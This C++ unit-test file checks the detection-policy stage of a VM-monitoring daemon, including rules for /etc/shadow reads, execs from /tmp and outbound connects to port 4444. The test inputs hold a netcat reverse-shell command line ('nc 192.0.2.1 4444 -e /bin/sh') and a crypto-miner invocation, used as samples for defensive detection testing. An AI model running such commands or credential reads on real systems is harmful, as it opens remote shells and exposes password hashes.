// The daemon's policy stage: feed events become policy events; matches become alerts that
// follow their event; the trapped syscalls are the ones the rules look at.
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "policy_stage.hpp"
#include "syscall_event.hpp"

namespace vmid {
namespace {

struct Collect final : EventSink {
    std::vector<nlohmann::json> got;
    void emit(const nlohmann::json& ev) override { got.push_back(ev); }
};

constexpr const char* kRules = R"yaml(
- rule: Read shadow
  desc: t
  condition: evt.type = syscall and syscall.name = openat and syscall.path = /etc/shadow and not syscall.flags & (O_WRONLY, O_RDWR)
  output: "shadow read by %proc.name (pid=%proc.pid)"
  priority: CRITICAL
  tags: [T1003]
- rule: Exec from tmp
  desc: t
  condition: evt.type = exec and proc.exe startswith /tmp/
  output: "exec of %proc.exe"
  priority: WARNING
- rule: Outbound
  desc: t
  condition: evt.type = syscall and syscall.name = connect and syscall.port = 4444
  output: "connect to %syscall.addr:%syscall.port"
  priority: NOTICE
)yaml";

policy::PolicySet rules() {
    auto loaded = policy::PolicySet::load_string(kRules);
    EXPECT_TRUE(loaded) << (loaded.errors.empty() ? "" : loaded.errors[0].str());
    return std::move(*loaded.set);
}

nlohmann::json openat_event(const std::string& path, std::uint64_t flags) {
    SyscallCall c;
    c.nr = 257;
    c.args = {static_cast<std::uint64_t>(-100), 0x1000, flags, 0, 0, 0};
    c.data_arg = 1;
    c.data = path;
    c.tgid = 7;
    c.comm = "cat";
    c.ret = 3;
    return syscall_event(c, nullptr, "vm1");
}

// An execve of `path` by `comm` (pid `tgid`), with the argv the module read at the call.
SyscallCall execve_call(const std::string& path, std::vector<std::string> argv, std::int32_t tgid,
                        const std::string& comm) {
    SyscallCall c;
    c.nr = 59;
    c.data_arg = 0;
    c.data = path;
    c.tgid = tgid;
    c.comm = comm;
    c.argv = std::move(argv);
    c.argv_captured = true;
    c.argv_arg = 1;
    return c;
}

TEST(PolicyStage, SyscallMatchIsFollowedByAnAlert) {
    Collect out;
    PolicyStage stage(out, rules());
    stage.emit(openat_event("/etc/shadow", 0));
    ASSERT_EQ(out.got.size(), 2u);
    EXPECT_EQ(out.got[0]["event"]["action"], "syscall");
    const auto& a = out.got[1];
    EXPECT_EQ(a["event"]["kind"], "alert");
    EXPECT_EQ(a["rule"]["name"], "Read shadow");
    EXPECT_EQ(a["rule"]["priority"], "critical");
    EXPECT_EQ(a["rule"]["tags"], nlohmann::json::array({"T1003"}));
    EXPECT_EQ(a["message"], "shadow read by cat (pid=7)");
    EXPECT_EQ(a["process"]["pid"], 7);
    EXPECT_EQ(stage.alerts(), 1u);
}

TEST(PolicyStage, NearMissesRaiseNothing) {
    Collect out;
    PolicyStage stage(out, rules());
    stage.emit(openat_event("/etc/shadow", 01));  // O_WRONLY: not a read
    stage.emit(openat_event("/etc/passwd", 0));
    EXPECT_EQ(out.got.size(), 2u);
    EXPECT_EQ(stage.alerts(), 0u);
}

TEST(PolicyStage, ProcessAndConnectEvents) {
    Collect out;
    PolicyStage stage(out, rules());
    stage.emit({{"event", {{"action", "process-exec"}, {"category", "process"}}},
                {"vm", {{"name", "vm1"}}},
                {"process", {{"pid", 9}, {"ppid", 1}, {"name", "x"}, {"exe", "/tmp/x"}}}});
    SyscallCall c;
    c.nr = 42;
    c.data_arg = 1;
    c.data = std::string("\x02\x00\x11\x5c\x0a\x00\x00\x01\0\0\0\0\0\0\0\0", 16);  // 10.0.0.1:4444
    stage.emit(syscall_event(c, nullptr, "vm1"));
    ASSERT_EQ(out.got.size(), 4u);
    EXPECT_EQ(out.got[1]["rule"]["name"], "Exec from tmp");
    EXPECT_EQ(out.got[3]["rule"]["name"], "Outbound");
    EXPECT_EQ(out.got[3]["message"], "connect to 10.0.0.1:4444");
}

TEST(PolicyStage, AnExecveThatWentThroughIsAnExec) {
    Collect out;
    PolicyStage stage(out, rules());
    SyscallCall c = execve_call("/tmp/miner", {"miner", "--pool", "x:3333"}, 12, "sh");
    stage.emit(syscall_event(c, nullptr, "vm1"));  // no return: it went through
    ASSERT_EQ(out.got.size(), 2u);
    EXPECT_EQ(out.got[1]["rule"]["name"], "Exec from tmp");
    EXPECT_EQ(out.got[1]["message"], "exec of /tmp/miner");
    c.ret = -2;  // ENOENT: nothing ran
    stage.emit(syscall_event(c, nullptr, "vm1"));
    EXPECT_EQ(out.got.size(), 3u);
    // Denied by the module: an attempt, judged like an exec, the alert showing the denial.
    c.ret.reset();
    c.denied = true;
    c.ret = -1;
    stage.emit(syscall_event(c, nullptr, "vm1"));
    ASSERT_EQ(out.got.size(), 5u);
    EXPECT_EQ(out.got[4]["rule"]["name"], "Exec from tmp");
    EXPECT_EQ(out.got[4]["syscall"]["denied"], true);
    const auto e = exec_from_syscall(out.got[0]);
    ASSERT_TRUE(e);
    EXPECT_EQ(e->proc.name, "miner");
    EXPECT_EQ(e->proc.exe, "/tmp/miner");
    EXPECT_EQ(e->proc.pid, 12);
    EXPECT_EQ(e->proc.cmdline, "miner --pool x:3333");
    EXPECT_EQ(out.got[0]["syscall"]["args"]["argv"], nlohmann::json({"miner", "--pool", "x:3333"}));
}

TEST(PolicyStage, ReloadIsAllOrNothing) {
    const auto dir = std::filesystem::temp_directory_path() /
                     ("vmi-policy-reload-" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir);
    const auto good = (dir / "good.yaml").string(), bad = (dir / "bad.yaml").string();
    std::ofstream(good) << R"yaml(
- rule: Passwd read
  desc: t
  condition: evt.type = syscall and syscall.name = openat and syscall.path = /etc/passwd
  output: "passwd read"
  priority: NOTICE
)yaml";
    std::ofstream(bad)
        << "- rule: Broken\n  desc: t\n  condition: evt.type = syscall and no.such = 1\n"
           "  output: x\n  priority: NOTICE\n";
    Collect out;
    PolicyStage stage(out, rules());
    // A bad file among good ones: errors name the place, the rules in force stay.
    const auto errors = stage.reload({good, bad});
    ASSERT_FALSE(errors.empty());
    EXPECT_NE(errors[0].find("bad.yaml:3:37: unknown field 'no.such'"), std::string::npos)
        << errors[0];
    stage.emit(openat_event("/etc/shadow", 0));
    ASSERT_EQ(out.got.size(), 2u);  // still the old "Read shadow"
    // A good set replaces it for the next event.
    EXPECT_TRUE(stage.reload({good}).empty());
    stage.emit(openat_event("/etc/shadow", 0));
    stage.emit(openat_event("/etc/passwd", 0));
    ASSERT_EQ(out.got.size(), 5u);
    EXPECT_EQ(out.got[4]["rule"]["name"], "Passwd read");
    EXPECT_EQ(syscalls_needed(stage.rules()), std::vector<std::string>{"openat"});
    std::filesystem::remove_all(dir);
}

TEST(PolicyStage, TamperFindingsAreJudgedAsTamperEvents) {
    const auto e = to_policy_event({{"event", {{"kind", "event"}, {"action", "guest-tampered"}}},
                                    {"vm", {{"name", "web"}}},
                                    {"vminsight",
                                     {{"tamper",
                                       {{"kind", "msr_hook"},
                                        {"target", "LSTAR"},
                                        {"expected", "0xffffffff81a00080"},
                                        {"actual", "0xffffffffc0a01000"}}}}}});
    ASSERT_TRUE(e);
    EXPECT_EQ(e->type, policy::EventType::Tamper);
    EXPECT_EQ(e->tamper.kind, "msr_hook");
    EXPECT_EQ(e->tamper.target, "LSTAR");
    EXPECT_EQ(e->tamper.actual, "0xffffffffc0a01000");
    EXPECT_FALSE(e->proc.pid);
}

// A tamper alert carries its finding, and a hidden process's fields.
TEST(PolicyStage, TamperAlertCarriesTheFindingAndTheHiddenProcess) {
    Collect out;
    auto loaded = policy::PolicySet::load_string(R"yaml(
- rule: Hidden
  desc: t
  condition: evt.type = tamper and tamper.kind = hidden_task
  output: "hidden %tamper.name pid=%proc.pid"
  priority: CRITICAL
)yaml");
    ASSERT_TRUE(loaded);
    PolicyStage stage(out, std::move(*loaded.set));
    stage.emit({{"event", {{"kind", "event"}, {"action", "guest-tampered"}}},
                {"vm", {{"name", "web"}}},
                {"process", {{"pid", 4242}, {"name", "implant"}, {"exe", "/tmp/implant"}}},
                {"vminsight",
                 {{"tamper",
                   {{"kind", "hidden_task"}, {"target", "tasks[4242]"}, {"name", "implant"}}}}}});
    ASSERT_EQ(out.got.size(), 2U);
    const auto& a = out.got[1];
    EXPECT_EQ(a["rule"]["name"], "Hidden");
    EXPECT_EQ(a["message"], "hidden implant pid=4242");
    EXPECT_EQ(a["process"]["exe"], "/tmp/implant");
    EXPECT_EQ(a["vminsight"]["tamper"]["target"], "tasks[4242]");
}

TEST(PolicyStage, OtherEventsAreNotJudged) {
    EXPECT_FALSE(to_policy_event({{"event", {{"action", "vm-attached"}}}}));
    EXPECT_FALSE(to_policy_event({{"event", {{"action", "policy-match"}}}}));
    EXPECT_FALSE(to_policy_event(nlohmann::json::object()));
    const auto e = to_policy_event(openat_event("/etc/shadow", 0));
    ASSERT_TRUE(e);
    EXPECT_EQ(e->syscall.flags, 0);
    EXPECT_EQ(e->syscall.path, "/etc/shadow");
}

TEST(PolicyStage, AnExecAlertNamesTheNewProgramAndIsNotRepeatedByTheListing) {
    Collect out;
    PolicyStage stage(out, rules());
    // "sh" is the caller, before the exec.
    const SyscallCall c = execve_call("/tmp/dropper", {"/tmp/dropper", "-x"}, 40, "sh");
    stage.emit(syscall_event(c, nullptr, "vm1"));
    ASSERT_EQ(out.got.size(), 2u);
    EXPECT_EQ(out.got[1]["process"]["name"], "dropper");
    EXPECT_EQ(out.got[1]["process"]["exe"], "/tmp/dropper");
    EXPECT_EQ(out.got[1]["process"]["args"], nlohmann::json({"/tmp/dropper", "-x"}));
    EXPECT_EQ(out.got[1]["process"]["pid"], 40);
    // The listing then catches the same program in the same process: no second alert.
    nlohmann::json listed = {
        {"event", {{"action", "process-exec"}}},
        {"process", {{"pid", 40}, {"name", "dropper"}, {"exe", "/tmp/dropper"}}}};
    stage.emit(listed);
    EXPECT_EQ(out.got.size(), 3u);
    // Another process running it is another exec.
    listed["process"]["pid"] = 41;
    stage.emit(listed);
    EXPECT_EQ(out.got.size(), 5u);
}

TEST(PolicyStage, AMultiCallBinaryRerunningItselfIsNamedByArgv0) {
    // busybox runs its applets so.
    const SyscallCall c =
        execve_call("/proc/self/exe", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}, 50, "sh");
    GuestProcess caller;
    caller.pid = 50;
    caller.comm = "sh";
    caller.exe = "/bin/busybox";
    const auto e = exec_from_syscall(syscall_event(c, &caller, "vm1"));
    ASSERT_TRUE(e);
    EXPECT_EQ(e->proc.name, "nc");
    EXPECT_EQ(e->proc.exe, "/bin/busybox");
    EXPECT_EQ(e->proc.cmdline, "nc 192.0.2.1 4444 -e /bin/sh");
}

TEST(PolicyStage, RenamesAreJudgedByTheirDestination) {
    SyscallCall c;
    c.nr = 82;  // rename
    c.data_arg = 1;
    c.data = "/usr/bin/ls";
    c.tgid = 60;
    c.comm = "mv";
    c.ret = 0;
    const auto e = to_policy_event(syscall_event(c, nullptr, "vm1"));
    ASSERT_TRUE(e);
    EXPECT_EQ(e->syscall.name, "rename");
    EXPECT_EQ(e->syscall.path, "/usr/bin/ls");
}

TEST(PolicyStage, TrappedSyscallsAreTheOnesRulesNeed) {
    // The exec rule needs every execve, as it is made; the syscall rules their own calls.
    EXPECT_EQ(syscalls_needed(rules()),
              (std::vector<std::string>{"execve", "execveat", "connect", "openat"}));
    auto quiet = policy::PolicySet::load_string(
        "- rule: r\n  condition: evt.type = syscall and syscall.name = ptrace\n  output: o\n"
        "  priority: notice\n");
    EXPECT_EQ(syscalls_needed(*quiet.set), std::vector<std::string>{"ptrace"});
    EXPECT_TRUE(syscalls_needed(policy::PolicySet{}).empty());  // no rules: nothing trapped
}

}  // namespace
}  // namespace vmid
